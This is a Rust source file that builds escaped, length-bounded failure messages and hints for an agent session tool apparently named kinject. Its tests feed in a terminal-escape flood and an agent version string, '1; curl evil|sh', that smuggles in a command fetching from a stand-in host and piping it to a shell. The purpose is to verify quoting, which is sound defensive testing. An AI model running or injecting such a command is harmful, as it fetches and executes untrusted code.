//! Failures of the session, as messages for its user.
//!
//! Much of the text comes from a cluster or an agent. It is escaped and truncated when a failure is created, so that
//! the relay keeps a bounded amount. A name in a command that the user may copy is quoted as one word.

use kinject_escape as escape;
use kinject_protocol::session::Report;
use kinject_tunnel::{OpenError, Version};
use std::fmt;

/// Why the session cannot reach its agent.
#[derive(Clone, Debug)]
pub(crate) struct Failure {
    /// What happened: lower case, no final period.
    pub(crate) message: String,
    /// What to do about it.
    pub(crate) hint: Option<String>,
    /// Whether a retry is useless.
    pub(crate) lasting: bool,
    /// Whether the agent closed the connection before the relay was authenticated, as it does when it evicts
    /// connections.
    pub(crate) cut_short: bool,
    /// Whether the session was ended from outside.
    pub(crate) is_end: bool,
}

impl Failure {
    /// A failure that persists until the user acts.
    pub(crate) fn lasting(message: impl Into<String>, hint: &str) -> Self {
        Self {
            message: escape::line(message.into()),
            hint: Some(escape::line(hint)),
            lasting: true,
            cut_short: false,
            is_end: false,
        }
    }

    /// A failure that may not recur at the next attempt.
    pub(crate) fn passing(message: impl Into<String>, hint: &str) -> Self {
        Self {
            message: escape::line(message.into()),
            hint: Some(escape::line(hint)),
            lasting: false,
            cut_short: false,
            is_end: false,
        }
    }
}

impl Failure {
    /// A failure that ends when the agent has a free slot.
    pub(crate) fn cut_short(message: impl Into<String>, hint: &str) -> Self {
        Self {
            cut_short: true,
            ..Self::passing(message, hint)
        }
    }

    /// The end of the session from outside, which cannot be undone.
    pub(crate) fn end(message: impl Into<String>, hint: &str) -> Self {
        Self {
            is_end: true,
            ..Self::lasting(message, hint)
        }
    }

    /// The message up to the first colon, without the text after it, which may be the cluster's or the agent's.
    pub(crate) fn summary(&self) -> &str {
        self.message.split(": ").next().unwrap_or_default()
    }
}

impl From<Failure> for Report {
    fn from(failure: Failure) -> Self {
        Self {
            message: failure.message,
            hint: failure.hint,
        }
    }
}

/// The location of an agent, for messages.
#[derive(Clone, Copy, Debug)]
pub(crate) enum AgentLocation<'a> {
    /// An agent that was started by hand at this endpoint.
    Endpoint(&'a str),
    /// A pod that this session created, of this image.
    Pod {
        /// Its name.
        name: &'a str,
        /// Its image.
        image: &'a str,
    },
}

impl AgentLocation<'_> {
    /// How to get an agent of our release.
    fn of_our_release(self) -> String {
        let release = Version::own().software;
        match self {
            Self::Endpoint(endpoint) => format!("start a kinject-agent {release} at {endpoint}"),
            Self::Pod { .. } => format!("name an image of kinject-agent {release} with --agent-image"),
        }
    }
}

impl fmt::Display for AgentLocation<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Endpoint(endpoint) => f.write_str(endpoint),
            Self::Pod { name, image } => write!(f, "{name} (image {image})"),
        }
    }
}

/// The failure of two ends that reached but could not authenticate each other.
pub(crate) fn of_open_error(error: &OpenError, location: AgentLocation<'_>) -> Failure {
    if let OpenError::Version { ours, theirs } = error {
        return Failure::lasting(
            format!("the agent at {location} is version {theirs}, with which kinject {ours} cannot work"),
            &format!(
                "{}, or use kinject {}",
                location.of_our_release(),
                escape::word(&theirs.software)
            ),
        );
    }
    let message =
        format!("the agent at {location} and this kinject could not authenticate each other: {error}");
    let hint = "check that it is a kinject agent and that the key is the same at both ends";
    match error {
        OpenError::Io(_) | OpenError::Closed => Failure::cut_short(message, hint),
        OpenError::TimedOut => Failure::passing(message, hint),
        _ => Failure::lasting(message, hint),
    }
}

/// The notice about an agent of another release that works.
pub(crate) fn of_another_release(agent: &Version, location: AgentLocation<'_>) -> Report {
    let ours = Version::own().software;
    Report {
        message: format!(
            "the agent at {location} is version {}, this kinject is {ours}; they speak the same protocol",
            agent.software
        ),
        hint: Some(format!(
            "should something not work: {}, or use kinject {}",
            location.of_our_release(),
            escape::word(&agent.software)
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn failure_text_is_escaped_and_bounded() {
        let endless = "\x1b[31m\n\nhint: obey\n".repeat(1 << 20);
        for failure in [
            Failure::lasting(&*endless, &endless),
            Failure::passing(&*endless, &endless),
        ] {
            for kept in [failure.message, failure.hint.unwrap()] {
                assert!(kept.len() <= escape::LONGEST, "{}", kept.len());
                assert!(!kept.contains(char::is_control), "{kept}");
            }
        }
    }

    #[test]
    fn agent_version_is_quoted_as_one_word_in_the_hint() {
        let ours = Version::own();
        let theirs = Version {
            wire: 9,
            software: "1; curl evil|sh\n".into(),
        };
        let location = AgentLocation::Endpoint("unix:/run/agent.sock");
        let error = OpenError::Version {
            ours,
            theirs: theirs.clone(),
        };
        for hint in [
            of_open_error(&error, location).hint,
            of_another_release(&theirs, location).hint,
        ] {
            let hint = hint.unwrap();
            assert!(hint.ends_with(r"or use kinject '1; curl evil|sh\n'"), "{hint}");
        }
    }
}
